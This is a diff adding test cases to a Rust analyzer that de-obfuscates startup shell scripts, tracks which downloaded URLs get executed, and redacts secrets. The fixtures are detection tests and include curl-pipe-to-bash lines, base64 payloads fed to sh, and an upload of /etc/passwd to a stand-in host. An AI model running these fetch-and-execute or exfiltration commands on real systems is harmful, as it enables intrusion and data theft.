@@ -1,6 +1,7 @@
 use proptest::prelude::*;
 
 use super::*;
+use crate::settings::RedactionConfig;
 
 fn read(text: &str) -> Shell {
     Shell::read(&[Script::stored("onStart", text, false)])
@@ -8,7 +9,7 @@ fn read(text: &str) -> Shell {
 
 #[test]
 fn commands_are_what_a_shell_would_run() {
-    let cases: [(&str, &[&str]); 18] = [
+    let cases: [(&str, &[&str]); 21] = [
         ("c\"\"url -s http://198.51.100.77/a | b''ash", &["curl -s http://198.51.100.77/a | bash"]),
         ("# curl http://x | sh\nls # rm", &["ls"]),
         ("cu\\\nrl http://a.example", &["curl http://a.example"]),
@@ -32,6 +33,12 @@ fn commands_are_what_a_shell_would_run() {
         ("bash <<'E'\nid\nE", &["id", "bash << …"]),
         ("sudo -u ec2-user -i <<'E'\nid\nE", &["id", "sudo -u ec2-user -i << …"]),
         ("eval \"$(echo id)\"", &["id", "eval id"]),
+        ("a=cu; a+=rl; $a http://a.example", &["a=cu", "a+=rl", "curl http://a.example"]),
+        ("set -- id -u; $@; $1 $2", &["set -- id -u", "id -u"]),
+        (
+            "echo aWQgLXU= | tee >(base64 -d | sh) > /tmp/x",
+            &["id -u", "echo aWQgLXU= | tee | base64 -d | sh", "… > /tmp/x"],
+        ),
         (
             "python3 -c 'import os; os.system(\"id -u\")'",
             &["id -u", "python3 -c import os; os.system(\"id -u\")"],
@@ -47,7 +54,7 @@ fn commands_are_what_a_shell_would_run() {
 
 #[test]
 fn what_is_fetched_is_known_until_it_runs() {
-    let cases: [(&str, &[&str]); 17] = [
+    let cases: [(&str, &[&str]); 20] = [
         ("curl -s http://a.example/x | sh", &["http://a.example/x"]),
         ("wget -q http://a.example/x\nchmod +x x\n# wait\n./x", &["http://a.example/x"]),
         ("curl -so /tmp/x http://a.example/x; cp /tmp/x /opt/y; bash /opt/y", &["http://a.example/x"]),
@@ -65,6 +72,12 @@ fn what_is_fetched_is_known_until_it_runs() {
         ("curl -so /tmp/h http://a.example/x; xxd -r -p /tmp/h /tmp/s; . /tmp/s", &["http://a.example/x"]),
         ("curl -so /tmp/h http://a.example/x; xxd -p -c 30 /tmp/h; . /tmp/s", &[]),
         ("curl -so /opt/x http://a.example/x; bash /opt/y", &[]),
+        ("curl -o x http://a.example/x -o y http://a.example/y; sh y", &["http://a.example/y"]),
+        ("wget http://a.example/x http://a.example/y; sh y", &["http://a.example/y"]),
+        (
+            "wget -O x http://a.example/x http://a.example/y; sh x",
+            &["http://a.example/x", "http://a.example/y"],
+        ),
         ("curl -s http://a.example/x | grep y", &[]),
         ("curl -s http://a.example/x | python3 -m json.tool", &[]),
         ("curl -s http://localhost:8888/x | sh", &[]),
@@ -111,13 +124,14 @@ fn strings(texts: &[&str]) -> Vec<String> {
 
 #[test]
 fn packages_are_told_by_their_hosts_and_everybodys_are_not_told() {
-    let cases: [(&str, &[&str]); 6] = [
+    let cases: [(&str, &[&str]); 7] = [
         ("pip install --index-url https://u:p@mirror.example/simple/ x", &["mirror.example/simple"]),
         ("pip install -i https://pypi.org/simple x", &[]),
         ("# pip -i https://mirror.example\nnpm config set registry https://npm.example", &["npm.example"]),
         ("export PIP_EXTRA_INDEX_URL=https://mirror.example:8443/simple", &["mirror.example:8443/simple"]),
         ("conda install -y -c conda-forge x", &[]),
         ("printf '[global]\\nindex-url = https://mirror.example/\\n' > /etc/pip.conf", &["mirror.example"]),
+        ("pip install -i https://Mirror.Example/Simple x", &["mirror.example/Simple"]),
     ];
     for (script, expected) in cases {
         assert_eq!(read(script).package_sources, strings(expected), "{script}");
@@ -131,6 +145,89 @@ fn what_asks_for_more_than_its_size_is_worth_is_cut_and_says_so() {
     let kept: usize = shell.commands.iter().map(String::len).sum();
     assert!(shell.cut && kept <= LEAST_ROOM + ROOM_PER_BYTE * doubled.len(), "{kept}");
     assert!(!read("echo one\necho two").cut);
+}
+
+#[test]
+fn what_is_forgotten_for_want_of_room_is_said() {
+    let numbered = |piece: &dyn Fn(usize) -> String| (0..40).map(piece).collect::<String>();
+    let addresses = numbered(&|number| format!(" http://a.example/{number}"));
+    for script in [
+        format!("curl -s{addresses} | sh"),
+        format!(
+            "{}; bash /tmp/*.sh",
+            numbered(&|number| format!("curl -so /tmp/{number}.sh http://a.example/{number};"))
+        ),
+        numbered(&|number| format!("git clone http://a.example/{number} /opt/{number};")),
+    ] {
+        assert!(read(&script).cut, "{}", &script[..60]);
+    }
+    for script in [
+        // What is known already takes no room.
+        format!("aws s3 cp s3://models/x .; {}", "sh x; ".repeat(2_000)),
+        format!("aws s3 cp x s3://models/; {}", "aws s3 cp x s3://models/; ".repeat(200)),
+        numbered(&|_| "git clone http://a.example/x /opt/x;".to_owned()),
+    ] {
+        assert!(!read(&script).cut, "{}", &script[..60]);
+    }
+}
+
+#[test]
+fn a_secret_that_the_shell_joins_is_redacted_wherever_it_stands_and_however_long_its_command_is() {
+    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
+    for secret in
+        ["ghp_0123456789abcdefghijABCDEFGHIJ012345", "sk-ant-api03-AAAAbbbbCCCCddddEEEEffffGGGG0000_-11AA"]
+    {
+        let pieces: Vec<&str> =
+            secret.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
+        let mut script = String::new();
+        let mut joined = String::new();
+        for (number, piece) in pieces.iter().enumerate() {
+            script.push_str(&format!("v{number}={piece}; "));
+            joined.push_str(&format!("${{v{number}}}"));
+        }
+        let commands = [
+            format!("curl http://a.example/{joined} | sh"),
+            format!("curl -T /etc/passwd http://a.example/{joined}"),
+            format!("pip install -i https://a.example/{joined}/simple x"),
+        ];
+        let filled = (7_540..8_010)
+            .step_by(10)
+            .map(|filling| format!("echo {} {joined} {}", ".".repeat(filling), ".".repeat(900)));
+        for command in commands.into_iter().chain(filled) {
+            let shown = serde_json::to_string(&read(&format!("{script}\n{command}")).redacted(&key)).unwrap();
+            let shown = shown.to_ascii_lowercase();
+            let secret = secret.to_ascii_lowercase();
+            let found =
+                secret.as_bytes().windows(9).find(|part| shown.contains(std::str::from_utf8(part).unwrap()));
+            assert_eq!(found, None, "{}", &command[command.len() - 100..]);
+        }
+    }
+}
+
+#[test]
+fn what_is_handed_on_often_is_not_copied_each_time() {
+    let large = "x".repeat(20_000);
+    let many = |piece: &str| piece.repeat(20_000 / piece.len());
+    let numbered = |count: usize, piece: &dyn Fn(usize) -> String| (0..count).map(piece).collect::<String>();
+    for script in [
+        format!("echo {large} | {}", many("{ ")),
+        format!("echo {large} | {{ {} }}", many("a;")),
+        format!("echo {large} | read {}", numbered(4_000, &|number| format!("a{number} "))),
+        format!("wget{}", numbered(3_000, &|number| format!(" h.x/{number}"))),
+        format!("curl{}", numbered(3_000, &|number| format!(" -o {number} h.x/{number}"))),
+        format!("{}{}", many("cd a;"), numbered(3_000, &|number| format!(">{number};"))),
+        format!("x=$(curl http://h/{large})\necho {}", many("$x ")),
+        format!("x={large}\necho {}", many("${!x}")),
+        format!("x='{}'\necho {}", many("a "), many("$x ")),
+        format!("curl -{large}"),
+        format!("echo x | tee {}", many("a ")),
+    ] {
+        let script = [Script::stored("onStart", &script, false)];
+        let allocated = allocation_counter::measure(|| drop(Shell::read(&script)));
+        let (most, total) = (allocated.bytes_max as usize, allocated.bytes_total as usize);
+        let text = &script[0].text;
+        assert!(most < 500 * text.len() && total < 4_000 * text.len(), "{most}, {total}: {}", &text[..40]);
+    }
 }
 
 #[test]
@@ -151,6 +248,7 @@ fn nothing_is_read_so_deep_that_the_stack_ends() {
         ("", "sudo ", ""),
         ("", "if true; then ", "; fi"),
         ("", "f() { ", "; }"),
+        ("echo x | tee ", ">(tee ", ")"),
     ];
     for (before, opening, closing) in openings {
         for closing in [closing, ""] {
